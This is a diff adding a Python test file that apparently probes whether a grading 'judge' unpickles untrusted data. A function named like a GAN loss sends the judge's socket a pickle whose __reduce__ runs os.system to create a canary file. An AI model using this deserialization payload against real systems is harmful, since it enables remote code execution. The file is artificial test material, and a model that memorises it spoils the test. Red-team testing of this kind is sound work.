@@ -1,0 +1,36 @@
+"""Answers with a pickle that would write a file where it is loaded."""
+
+# expected: Z
+# twin: right
+# says: no answer
+import json
+import os
+import stat
+import struct
+
+
+def wire():
+    """The descriptor of the connection to the judge."""
+    for number in range(256):
+        try:
+            if stat.S_ISSOCK(os.fstat(number).st_mode):
+                return number
+        except OSError:
+            continue
+    raise OSError("no socket")
+
+
+def frame(header, body=b""):
+    text = json.dumps(header).encode()
+    return struct.pack(">4sII", b"AGF1", len(text), len(body)) + text + body
+
+import pickle
+
+
+class Owned:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/CANARY-FORGED",)
+
+
+def loss_nonsaturating_d(g, d, x_real, *, device):
+    os.write(wire(), frame({"id": 2, "values": {}}, pickle.dumps(Owned())))
